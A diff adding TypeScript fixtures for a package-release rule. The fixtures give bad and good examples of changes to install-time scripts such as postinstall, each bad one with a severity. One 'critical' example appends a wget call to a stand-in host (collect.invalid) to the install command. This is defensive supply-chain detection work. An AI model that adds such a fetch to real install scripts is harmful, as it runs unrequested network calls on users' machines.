@@ -1,0 +1,45 @@
+import type { ReleaseRuleExamples } from '../rule-examples.ts';
+
+const before = { name: 'postinstall', command: 'node setup.js', runsAtInstall: true } as const;
+const files = [{ path: 'setup.js' }, { path: 'lib/setup.js' }] as const;
+
+export const examples: ReleaseRuleExamples = {
+  bad: [
+    {
+      why: 'another runtime runs another file',
+      severity: 'high',
+      old: { scripts: [before], files },
+      new: { scripts: [{ ...before, command: 'bun run index.js' }], files },
+    },
+    {
+      why: 'the command now fetches',
+      severity: 'critical',
+      old: { scripts: [before], files },
+      new: {
+        scripts: [{ ...before, command: 'node setup.js && wget -q https://collect.invalid/a' }],
+        files,
+      },
+    },
+    {
+      why: 'the file moved',
+      severity: 'medium',
+      old: { scripts: [before], files },
+      new: { scripts: [{ ...before, command: 'node lib/setup.js' }], files },
+    },
+    {
+      why: 'the file that it runs is not there',
+      severity: 'high',
+      old: { scripts: [before], files },
+      new: { scripts: [{ ...before, command: 'node ./gone.js' }], files },
+    },
+  ],
+  good: [
+    { why: 'unchanged', old: { scripts: [before], files }, new: { scripts: [before], files } },
+    {
+      why: 'a script that a person runs changed',
+      old: { scripts: [{ name: 'build', command: 'tsc', runsAtInstall: false }] },
+      new: { scripts: [{ name: 'build', command: 'tsup', runsAtInstall: false }] },
+    },
+    { why: 'it is gone', old: { scripts: [before], files }, new: { files } },
+  ],
+};
